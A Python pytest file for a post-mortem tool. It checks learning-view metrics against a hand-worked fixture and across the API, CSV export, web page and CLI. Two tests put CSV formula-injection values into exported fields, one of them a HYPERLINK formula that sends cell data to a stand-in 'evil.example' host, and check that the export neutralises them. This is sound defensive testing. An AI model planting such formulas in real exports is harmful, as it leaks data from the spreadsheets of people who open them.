"""The learning view (issue 16, part 3): its numbers against a fixture computed by hand, on
SQLite and on a real PostgreSQL; the same numbers from `/api/learning`, its CSV and the
page, and `postmortem learning`."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from domain.models import (
    ActionState,
    ContributingFactor,
    CorrectiveAction,
    Phase,
    PhaseChange,
    PostmortemDocument,
    ReviewOutcome,
)
from record.learning import LearningFilter, csv_table, learning, months_between
from record.store import Record, open_record
from tests import scenario

NOW = datetime(2026, 6, 1, 12, tzinfo=UTC)


def day(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def pm(
    n: int,
    *,
    service: str,
    resolved: str,
    factors: list[str],
    review_days: float | None,
    closed_days: float | None = None,
    team: str = "payments",
    actions: list[dict[str, Any]] = (),  # type: ignore[assignment]
) -> PostmortemDocument:
    resolved_at = day(resolved)
    incident = scenario.incident(
        resolved_at + timedelta(minutes=5), incident_id=f"L-{n}", service=service, team=team
    )
    history = [PhaseChange(phase=Phase.DRAFTING, at=resolved_at)]
    if closed_days is not None:
        history.append(PhaseChange(phase=Phase.CLOSED, at=resolved_at + timedelta(closed_days)))
    return PostmortemDocument(
        workflow_id=incident.workflow_id,
        incident=incident,
        phase=Phase.CLOSED if closed_days is not None else Phase.FOLLOWING_UP,
        phase_history=history,
        findings=ReviewOutcome(
            contributing_factors=[
                ContributingFactor(category=c, description=f"{c} of L-{n}") for c in factors
            ],
            proximate_cause="p",
            root_cause="r",
            accepted_at=resolved_at + timedelta(review_days or 0),
        )
        if review_days is not None
        else None,
        actions=[
            CorrectiveAction(
                id=a["id"],
                title=f"{a['id']} of L-{n}",
                type=a["type"],
                priority=a["priority"],
                owner="alex@example.com",
                team=team,
                due=day(a["due"]),
                state=a.get("state", ActionState.OPEN),
                state_reason=a.get("reason", ""),
                completed_at=day(a["completed"]) if "completed" in a else None,
            )
            for a in actions
        ],
    )


def fixture() -> list[PostmortemDocument]:
    """Worked out by hand in the assertions below."""
    done, dropped = ActionState.DONE, ActionState.DROPPED
    return [
        pm(
            1,
            service="checkout",
            resolved="2026-03-10T10:00:00",
            factors=["missing_safeguard", "monitoring_gap"],
            review_days=2,
            closed_days=20,
            actions=[
                # prevent P1, done on time; detect P2, done late
                {
                    "id": "a0",
                    "type": "prevent",
                    "priority": "P1",
                    "due": "2026-04-01",
                    "state": done,
                    "completed": "2026-03-30",
                },
                {
                    "id": "a1",
                    "type": "detect",
                    "priority": "P2",
                    "due": "2026-04-15",
                    "state": done,
                    "completed": "2026-04-20",
                },
            ],
        ),
        pm(
            2,
            service="checkout",
            resolved="2026-04-05T10:00:00",
            factors=["missing_safeguard"],
            review_days=4,
            actions=[
                # open past due; open and due after the period; dropped
                {"id": "a0", "type": "prevent", "priority": "P1", "due": "2026-05-01"},
                {"id": "a1", "type": "process", "priority": "P3", "due": "2026-07-01"},
                {
                    "id": "a2",
                    "type": "repair",
                    "priority": "P2",
                    "due": "2026-05-10",
                    "state": dropped,
                    "reason": "superseded by a0",
                    "completed": "2026-05-05",
                },
            ],
        ),
        pm(
            3,
            service="search",
            resolved="2026-05-20T10:00:00",
            factors=["process_gap"],
            review_days=1,
            closed_days=10,
            team="platform",
            actions=[
                {
                    "id": "a0",
                    "type": "investigate",
                    "priority": "P2",
                    "due": "2026-05-25",
                    "state": done,
                    "completed": "2026-05-24",
                },
            ],
        ),
        # Before the period, 80 days before L-1: makes L-1 a repeat; its factor not counted.
        pm(
            4,
            service="checkout",
            resolved="2025-12-20T10:00:00",
            factors=["documentation_gap"],
            review_days=1,
        ),
        pm(5, service="", resolved="2026-05-01T10:00:00", factors=["other"], review_days=3),
        # Never reviewed: counted as a post-mortem, not in the time to findings.
        pm(6, service="", resolved="2026-05-02T10:00:00", factors=[], review_days=None),
    ]


def test_the_period_is_whole_days_and_its_months():
    f = LearningFilter.last(90, NOW)
    assert (f.since, f.until) == (day("2026-03-04T00:00:00"), day("2026-06-02T00:00:00"))
    assert [f"{m:%Y-%m}" for m in months_between(f.since, f.until)] == [
        "2026-03",
        "2026-04",
        "2026-05",
        "2026-06",
    ]
    with pytest.raises(ValueError, match="1 to 3660 days"):
        LearningFilter.last(0, NOW)
    with pytest.raises(ValueError):
        LearningFilter.last(100_000, NOW)
    # A service is matched as the engine keeps services.
    assert LearningFilter.last(5, NOW, service="  Checkout ").service == "checkout"


def test_the_numbers_are_those_computed_by_hand(record: Record):
    for doc in fixture():
        assert record.project(doc, 1)
    data = learning(record, LearningFilter.last(90, NOW), NOW, lookback_days=90)
    assert data.postmortems == 5  # L-1, 2, 3, 5, 6
    assert data.months == ["2026-03", "2026-04", "2026-05", "2026-06"]
    nonzero = {k: v for k, v in data.categories.items() if any(v)}
    assert nonzero == {
        "missing_safeguard": [1, 1, 0, 0],
        "monitoring_gap": [1, 0, 0, 0],
        "process_gap": [0, 0, 1, 0],
        "other": [0, 0, 1, 0],
    }
    # checkout: L-1 (80 days after L-4) and L-2 (26 days after L-1) are both repeats.
    assert [(r.service, r.incidents, r.repeats) for r in data.repeats] == [
        ("checkout", 2, 2),
        ("search", 1, 0),
    ]
    outcome = {
        k: (o.due, o.on_time, o.late, o.dropped, o.open_past_due, o.open_not_due)
        for k, o in data.by_type.items()
        if o.due
    }
    assert outcome == {
        "prevent": (2, 1, 0, 0, 1, 0),
        "detect": (1, 0, 1, 0, 0, 0),
        "repair": (1, 0, 0, 1, 0, 0),
        "investigate": (1, 1, 0, 0, 0, 0),
    }
    assert data.by_type["prevent"].on_time_share == 0.5
    assert data.by_type["mitigate"].on_time_share is None  # none due
    by_priority = {k: (o.due, o.on_time) for k, o in data.by_priority.items() if o.due}
    assert by_priority == {"P1": (2, 1), "P2": (3, 1)}
    assert [(d.workflow_id, d.action_id, d.reason) for d in data.dropped] == [
        ("postmortem-manual-L-2", "a2", "superseded by a0")
    ]
    # Findings after 2, 4, 1, 3 days; closure after 20 and 10 (nearest rank).
    assert (data.to_review.count, data.to_review.median_days, data.to_review.p90_days) == (4, 2, 4)
    assert (data.to_closure.count, data.to_closure.median_days, data.to_closure.p90_days) == (
        2,
        10,
        20,
    )
    assert data.overdue_by_service == {"checkout": 1}

    # By team: the post-mortems of payments; the actions payments owns.
    mine = learning(record, LearningFilter.last(90, NOW, team="payments"), NOW, 90)
    assert mine.postmortems == 4
    assert sum(o.due for o in mine.by_type.values()) == 4  # L-3's belongs to platform
    assert [r.service for r in mine.repeats] == ["checkout"]
    # By service.
    checkout = learning(record, LearningFilter.last(90, NOW, service="Checkout"), NOW, 90)
    assert checkout.postmortems == 2
    assert {k for k, o in checkout.by_type.items() if o.due} == {"prevent", "detect", "repair"}
    assert checkout.overdue_by_service == {"checkout": 1}
    # A shorter look-back: L-1 is 80 days after L-4, no longer a repeat.
    short = learning(record, LearningFilter.last(90, NOW), NOW, lookback_days=30)
    assert (short.repeats[0].service, short.repeats[0].repeats) == ("checkout", 1)

    # The CSV tables say the same, one row each.
    rows = list(csv.reader(io.StringIO(csv_table(data, "categories"))))
    assert rows[0] == ["category", "2026-03", "2026-04", "2026-05", "2026-06"]
    assert ["missing_safeguard", "1", "1", "0", "0"] in rows
    rows = list(csv.reader(io.StringIO(csv_table(data, "actions"))))
    assert ["type", "prevent", "2", "1", "0", "0", "1", "0", "0.5"] in rows
    with pytest.raises(ValueError, match="no table"):
        csv_table(data, "secrets")


def test_the_edges_count_as_the_words_say(record: Record):
    """Exactly the look-back apart is a repeat, a second more is not; done at the due
    moment is on time; the period's first instant is in it, its end is not."""
    done = ActionState.DONE
    docs = [
        pm(1, service="edge", resolved="2026-04-01T00:00:00", factors=["other"], review_days=1),
        pm(2, service="edge", resolved="2026-05-01T00:00:00", factors=["other"], review_days=1,
           actions=[{"id": "a0", "type": "repair", "priority": "P2", "due": "2026-05-10",
                     "state": done, "completed": "2026-05-10"}]),
        pm(3, service="edge", resolved="2026-05-31T00:00:01", factors=["other"], review_days=1),
        # The period's first instant (in it), and its end (not in it).
        pm(4, service="", resolved="2026-03-04T00:00:00", factors=["other"], review_days=1),
        pm(5, service="", resolved="2026-06-02T00:00:00", factors=["other"], review_days=1),
    ]  # fmt: skip
    for doc in docs:
        assert record.project(doc, 1)
    data = learning(record, LearningFilter.last(90, NOW), NOW, lookback_days=30)
    # L-2 is 30 days after L-1 (a repeat); L-3 is 30 days and a second after L-2 (not).
    assert [(r.service, r.incidents, r.repeats) for r in data.repeats] == [("edge", 3, 1)]
    assert data.by_type["repair"].on_time == 1 and data.by_type["repair"].late == 0
    assert data.postmortems == 4  # L-1 to L-4


def test_an_empty_record_has_empty_figures(record: Record):
    data = learning(record, LearningFilter.last(30, NOW), NOW, 90)
    assert data.postmortems == 0 and data.repeats == [] and data.dropped == []
    assert data.to_review.median_days is None
    assert all(not any(v) for v in data.categories.values())


def test_a_csv_cell_is_never_a_formula(record: Record):
    doc = fixture()[1]
    doc.actions[2].state_reason = '=HYPERLINK("http://evil")'
    assert record.project(doc, 1)
    data = learning(record, LearningFilter.last(90, NOW), NOW, 90)
    rows = list(csv.reader(io.StringIO(csv_table(data, "dropped"))))
    assert rows[1][6] == '\'=HYPERLINK("http://evil")'


# -- the API, its CSV, the page and the CLI ----------------------------------------------------


async def test_the_api_the_csv_and_the_page_show_the_same_numbers(env, settings):
    """The API's clock is set to NOW (time-machine: the API runs in this process)."""
    import httpx
    import time_machine

    from tests.test_webhooks import free_port

    store = open_record(settings)
    for doc in fixture():
        assert store.project(doc, 1)
    expected = learning(store, LearningFilter.last(90, NOW), NOW, 90).as_json()
    settings = settings.model_copy(update={"api_port": free_port()})
    with time_machine.travel(NOW, tick=False):
        async with (
            scenario.serving_api(settings, env.client) as base,
            httpx.AsyncClient(base_url=base, timeout=30) as http,
        ):
            answer = await http.get("/api/learning", params={"days": 90})
            assert answer.status_code == 200
            data = answer.json()
            assert {k: v for k, v in data.items() if k != "now"} == {
                k: v for k, v in expected.items() if k != "now"
            }
            assert data["repeats"][0]["service"] == "checkout"
            table = await http.get("/api/learning.csv", params={"table": "repeats", "days": 90})
            assert table.headers["content-type"].startswith("text/csv")
            assert list(csv.reader(io.StringIO(table.text)))[1][:3] == ["checkout", "2", "2"]
            page = (await http.get("/learning", params={"days": 90, "service": "Checkout"})).text
            assert 'id="category-chart"' in page and 'data-category="missing_safeguard"' in page
            assert '<tr data-service="checkout">' in page
            assert "/api/learning.csv?table=dropped&amp;team=&amp;service=Checkout&amp;days=90" in (
                page
            )
            # Bad filters: a clear 422, and nothing computed.
            for params in ({"days": 0}, {"days": 99_999}, {"service": "a\x00b"}):
                refused = await http.get("/api/learning", params=params)
                assert refused.status_code == 422, params
            refused = await http.get("/api/learning.csv", params={"table": "secrets"})
            assert refused.status_code == 422
    store.dispose()


@pytest.mark.realclock  # the CLI runs in a process of its own, on the machine's clock
def test_the_cli_prints_the_same_numbers(settings):
    """`postmortem learning --json` at its own moment: the same as computed here for it."""
    from tests.test_cli import ok, refused

    store = open_record(settings)
    today = datetime.now(UTC)  # only to place the fixture inside the default period
    for doc in fixture():
        moved = doc.model_copy(deep=True)
        shift = today - NOW
        moved.incident.resolved_at += shift
        assert store.project(moved, 1)
    data = json.loads(ok(settings, "learning", "--json", "--days", "400"))
    at = datetime.fromisoformat(data["now"])
    expected = learning(store, LearningFilter.last(400, at), at, settings.related_lookback_days)
    assert data == expected.as_json()
    assert data["postmortems"] == 6
    text = ok(settings, "learning", "--service", "checkout", "--days", "400")
    assert "Repeat incidents per service" in text and "checkout" in text
    table = ok(settings, "learning", "--csv", "timing", "--days", "400")
    assert table.splitlines()[0] == "from resolution to,count,median_days,p90_days"
    assert "--csv: one of" in refused(settings, "learning", "--csv", "nope")
    store.dispose()


def test_a_service_cell_is_never_a_formula(record: Record):
    doc = fixture()[0]
    doc.incident.service = '=hyperlink("http://evil.example/?"&a1,"click")'
    assert record.project(doc, 1)
    data = learning(record, LearningFilter.last(90, NOW), NOW, 90)
    rows = list(csv.reader(io.StringIO(csv_table(data, "repeats"))))
    assert rows[1][0].startswith("'=")
